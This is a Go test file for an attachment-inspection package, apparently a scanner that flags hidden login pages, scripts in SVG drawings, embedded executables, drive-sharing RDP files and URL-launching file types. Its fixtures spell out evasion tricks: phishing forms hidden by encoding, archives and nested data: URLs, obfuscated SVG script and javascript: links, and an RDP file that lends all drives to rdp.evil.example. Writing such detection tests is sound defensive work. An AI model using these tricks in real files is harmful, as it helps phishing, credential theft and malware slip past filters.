package attach

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"
)

// utf16Of is a text in UTF-16, with its mark where it has one.
func utf16Of(order binary.ByteOrder, mark bool, text string) []byte {
	units := utf16.Encode([]rune(text))
	if mark {
		units = append([]uint16{0xfeff}, units...)
	}
	out := make([]byte, 2*len(units))
	for i, u := range units {
		order.PutUint16(out[2*i:], u)
	}
	return out
}

func dataAddress(media, text string) string {
	return "data:" + media + ";base64," + base64.StdEncoding.EncodeToString([]byte(text))
}

const login = `<form action="https://x.example/"><input type="password"></form>`

func TestPage_isReadWhateverItsForm(t *testing.T) {
	utf32 := make([]byte, 4)
	copy(utf32, "\xff\xfe\x00\x00")
	for _, c := range login {
		utf32 = binary.LittleEndian.AppendUint32(utf32, uint32(c))
	}
	for name, f := range map[string]File{
		"html":                         {Name: "a.html", Body: []byte("<html>" + login)},
		"without its element":          {Name: "a.html", Body: []byte(login)},
		"behind a long comment":        {Name: "a.html", Body: []byte("<!--" + strings.Repeat("x", 5000) + "-->" + login)},
		"behind letters":               {Name: "a.htm", Body: []byte(strings.Repeat("some text ", 500) + login)},
		"behind zeros":                 {Name: "a.htm", Body: []byte("\x00\x00\x01\x02" + login)},
		"behind a mark of a picture":   {Name: "a.html", Body: []byte("GIF89a<!--" + strings.Repeat("x", 50) + "-->" + login)},
		"behind a mark of PDF":         {Name: "a.html", Body: []byte("%PDF-1.4\n" + login)},
		"behind a mark of an archive":  {Name: "a.html", Body: []byte("PK\x03\x04xx" + login)},
		"behind fields of a message":   {Name: "a.html", Body: []byte("From: a\nSubject: b\nContent-Type: text/html\n\n" + login)},
		"by its type":                  {Name: "a", Type: "text/html", Body: []byte(login)},
		"by its type, without a name":  {Type: "text/html", Body: []byte(login)},
		"by its content":               {Name: "a.bin", Body: []byte("<!-- x --> <FORM action=x>" + login)},
		"by its content, with a mark":  {Name: "a.bin", Body: []byte("\xef\xbb\xbf<form>" + login)},
		"shtml":                        {Name: "a.SHTML", Body: []byte(login)},
		"xhtml":                        {Name: "a.xhtml", Body: []byte("<?xml version='1.0'?>" + login)},
		"with a dot behind its name":   {Name: "a.html. ", Body: []byte(login)},
		"UTF-16, little end":           {Name: "a.html", Body: utf16Of(binary.LittleEndian, true, login)},
		"UTF-16, big end":              {Name: "a.html", Body: utf16Of(binary.BigEndian, true, login)},
		"UTF-16 without a mark":        {Name: "a.html", Body: utf16Of(binary.LittleEndian, false, login)},
		"UTF-16 by its content":        {Name: "a.bin", Body: utf16Of(binary.BigEndian, true, "<html>"+login)},
		"UTF-32":                       {Name: "a.html", Body: utf32},
		"svg":                          {Name: "a.bin", Body: []byte(`<svg xmlns="x"><foreignObject>` + login + `</foreignObject></svg>`)},
		"svg with a prefix":            {Name: "a.bin", Body: []byte(`<?xml version="1.0"?><!-- x --><s:svg xmlns:s="x">` + login + `</s:svg>`)},
		"svg behind a document type":   {Name: "a.bin", Body: []byte("<!DOCTYPE svg PUBLIC 'x' 'y' [<!ELEMENT a (b)>]>\n<svg>" + login + "</svg>")},
		"in a zip":                     {Name: "a.zip", Body: madeZip(zipEntryOf{name: "a.html", body: login})},
		"gzipped svg":                  {Name: "a.svgz", Body: gzipped(t, "", []byte("<svg>"+login+"</svg>"))},
		"in an address":                {Name: "a.html", Body: []byte(`<iframe src="` + dataAddress("text/html", login) + `">`)},
		"in an address, not in base64": {Name: "a.html", Body: []byte(`<iframe src="data:text/html,` + url.PathEscape(login) + `">`)},
		"in an address, with blanks":   {Name: "a.html", Body: []byte("<iframe src='\n data:text/html;charset=utf-8;base64,\n" + base64.StdEncoding.EncodeToString([]byte(login)) + "'>")},
		"in an address, in references": {Name: "a.html", Body: []byte(`<iframe src="&#100;&#x61;ta:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte(login)) + `">`)},
		"in an address of a drawing":   {Name: "a.svg", Body: []byte(`<svg><use xlink:href="` + dataAddress("image/svg+xml", "<svg>"+login+"</svg>") + `"/></svg>`)},
		"in an address in an address":  {Name: "a.html", Body: []byte(`<iframe src="` + dataAddress("text/html", `<iframe src="`+dataAddress("text/html", login)+`">`) + `">`)},
		"in a script":                  {Name: "a.html", Body: []byte(`<script>location="` + dataAddress("text/html", login) + `"</script>`)},
		"in a refresh":                 {Name: "a.html", Body: []byte(`<meta http-equiv=refresh content="0;url=` + dataAddress("text/html", login) + `">`)},
		"in srcdoc":                    {Name: "a.html", Body: []byte(`<iframe srcdoc="` + strings.ReplaceAll(login, `"`, "&quot;") + `">`)},
		"in an object":                 {Name: "a.html", Body: []byte(`<object data="` + dataAddress("text/html", login) + `"></object>`)},
	} {
		if got := len(pagesWith(Inspect(f, limits()), `type="password"`)); got == 0 {
			t.Errorf("%s: the page is not read", name)
		}
	}
	for name, f := range map[string]File{
		"text":            {Name: "a.txt", Body: []byte("Type a < b, then press enter.")},
		"a patch":         {Name: "a.patch", Body: []byte("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-<p>\n+<b>\n")},
		"UTF-16 text":     {Name: "a.txt", Body: utf16Of(binary.LittleEndian, true, "notes of the meeting")},
		"zeros":           {Name: "a.bin", Body: make([]byte, 1000)},
		"an XML document": {Name: "a.xml", Body: []byte("<?xml version='1.0'?><invoice><a/></invoice>")},
	} {
		if r := Inspect(f, limits()); len(r.Pages) > 0 || len(r.Findings) > 0 {
			t.Errorf("%s: %+v", name, r)
		}
	}
}

func pagesWith(r Report, mark string) (all []Page) {
	for _, p := range r.Pages {
		if strings.Contains(p.Text, mark) {
			all = append(all, p)
		}
	}
	return all
}

func TestDrawing_runsAScript(t *testing.T) {
	svg := func(body string) []byte { return []byte(`<svg xmlns="http://www.w3.org/2000/svg">` + body + `</svg>`) }
	for name, body := range map[string][]byte{
		"script":                 svg(`<script>alert(1)</script>`),
		"script that hides":      svg(`<script type="application/ecmascript"><![CDATA[window["loc"+"ation"]=atob("x")]]></script>`),
		"script from elsewhere":  svg(`<script xlink:href="https://x.example/a.js"/>`),
		"script with a prefix":   []byte(`<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`),
		"script of another":      svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`),
		"handler":                svg(`<rect onclick="go()"/>`),
		"handler of the root":    []byte(`<svg onload="go()" xmlns="http://www.w3.org/2000/svg"></svg>`),
		"address":                svg(`<a xlink:href=" java` + "\n" + `script:go()">x</a>`),
		"address in references":  svg(`<a href="&#106;avascript:go()">x</a>`),
		"address that is set":    svg(`<a><set attributeName="href" to="javascript:go()"/></a>`),
		"entity":                 []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>go()</script>">]><svg>&x;</svg>`),
		"entity in references":   []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x '&#60;script>go()&#60;/script>'>]><svg>&x;</svg>`),
		"style sheet":            []byte(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><svg></svg>`),
		"UTF-16":                 utf16Of(binary.LittleEndian, true, `<svg><script>go()</script></svg>`),
		"by its name":            []byte("\x00<svg><script>go()</script></svg>"),
		"script in a page in it": svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>go()</script></body></foreignObject>`),
	} {
		if got := ids(Inspect(File{Name: "a.svg", Body: body}, limits()).Findings); got != "script" {
			t.Errorf("%s: %q", name, got)
		}
	}
	inside := Inspect(File{Name: "a.zip", Body: madeZip(zipEntryOf{name: "a.svg", body: string(svg("<script>go()</script>"))})}, limits())
	if got := ids(inside.Findings); got != "archive_executable" {
		t.Errorf("in an archive: %q", got)
	}
	for name, body := range map[string][]byte{
		"drawing":                     svg(`<rect width="1"/><text>script</text><style>.a{fill:red}</style>`),
		"link":                        svg(`<a xlink:href="https://x.example/"><text>x</text></a>`),
		"picture in it":               svg(`<image xlink:href="` + dataAddress("image/png", "x") + `"/>`),
		"entities of a drawing tool":  []byte(`<?xml version="1.0"?><!DOCTYPE svg PUBLIC "x" "y" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_flows "http://ns.adobe.com/Flows/1.0/">]><svg xmlns="&ns_svg;"></svg>`),
		"style sheet that only looks": []byte(`<?xml version="1.0"?><?xml-stylesheet type="text/css" href="a.css"?><svg></svg>`),
	} {
		if got := ids(Inspect(File{Name: "a.svg", Body: body}, limits()).Findings); got != "" {
			t.Errorf("%s: %q", name, got)
		}
	}
}

func TestPage_carriesFiles(t *testing.T) {
	program := "MZ\x90\x00\x03" + strings.Repeat("\x00", 90)
	page := fmt.Sprintf(`<a href="%s">x</a>`, dataAddress("application/octet-stream", program))
	if got := ids(Inspect(File{Name: "a.html", Body: []byte(page)}, limits()).Findings); got != "archive_executable" {
		t.Errorf("a program: %q", got)
	}
	page = fmt.Sprintf(`<script>var f="%s"</script>`, dataAddress("application/zip", string(madeZip(zipEntryOf{name: "run.js", body: "x"}))))
	if got := ids(Inspect(File{Name: "a.html", Body: []byte(page)}, limits()).Findings); got != "archive_executable" {
		t.Errorf("an archive: %q", got)
	}
	many := strings.Repeat(`<img src="data:text/html,x">`, 200)
	if r := Inspect(File{Name: "a.html", Body: []byte(many)}, limits()); len(r.NotRead) == 0 {
		t.Errorf("many addresses: %d pages, nothing is said of the rest", len(r.Pages))
	}
}

func TestRemoteDesktop(t *testing.T) {
	lending := "screen mode id:i:2\r\nfull address:s:rdp.evil.example:3389\r\nredirectdrives:i:1\r\ndrivestoredirect:s:*\r\n"
	plain := "screen mode id:i:2\r\nfull address:s:rdp.evil.example\r\nredirectdrives:i:0\r\n"
	for name, c := range map[string]struct {
		file File
		want string
	}{
		"drives are lent":          {File{Name: "a.rdp", Body: []byte(lending)}, "script"},
		"nothing is lent":          {File{Name: "a.rdp", Body: []byte(plain)}, "script"},
		"UTF-16":                   {File{Name: "a.rdp", Body: utf16Of(binary.LittleEndian, true, lending)}, "script"},
		"under another name":       {File{Name: "a.txt", Body: []byte(lending)}, "script"},
		"without a name":           {File{Body: []byte(plain)}, "script"},
		"a text that speaks of it": {File{Name: "a.txt", Body: []byte("Set redirectdrives:i:1 in the file, and full address:s: to the server.")}, ""},
	} {
		r := Inspect(c.file, limits())
		if got := ids(r.Findings); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
		if c.want != "" && (len(r.Links) != 1 || !strings.Contains(r.Links[0].URL, "rdp.evil.example")) {
			t.Errorf("%s: links %v", name, r.Links)
		}
	}
	if r := Inspect(File{Name: "a.rdp", Body: []byte(lending)}, limits()); !strings.Contains(r.Findings[0].Text, "drives") {
		t.Errorf("%q does not speak of the drives", r.Findings[0].Text)
	}
}

func TestActive_textsThatLeadElsewhere(t *testing.T) {
	for name, body := range map[string]string{
		"shortcut": "[InternetShortcut]\r\nURL=https://x.example/a\r\n", "library": `<?xml version="1.0"?><libraryDescription xmlns="x"><url>https://x.example/a</url>`,
		"search": `<searchConnectorDescription><url>https://x.example/a</url>`, "install": `<?xml version="1.0"?><AppInstaller Uri="https://x.example/a" />`,
		"query": "WEB\r\n1\r\nhttps://x.example/a\r\n", "java": `<jnlp codebase="https://x.example/a">`, "desktop": "[Desktop Entry]\nURL=https://x.example/a\n",
		"theme": "[Theme]\r\nWallpaper=https://x.example/a\r\n", "sandbox": `<Configuration><LogonCommand><Command>https://x.example/a`,
	} {
		r := Inspect(File{Name: "file", Body: []byte(body)}, limits())
		if name == "sandbox" {
			continue // known by its name alone: the element stands deep
		}
		if got := ids(r.Findings); got != "script" || len(r.Links) != 1 || r.Links[0].URL != "https://x.example/a" {
			t.Errorf("%s: %q, links %v", name, got, r.Links)
		}
	}
	for name, body := range map[string]string{
		"component.xml": `<component name="x"/>`, "build.xml": `<?xml version="1.0"?><package name="x"/>`, "job.xml": `<job id="1"/>`, "notes.txt": "[Theme]\nThe theme of the day.",
	} {
		if got := ids(Inspect(File{Name: name, Body: []byte(body)}, limits()).Findings); got != "" {
			t.Errorf("%s: %q", name, got)
		}
	}
}
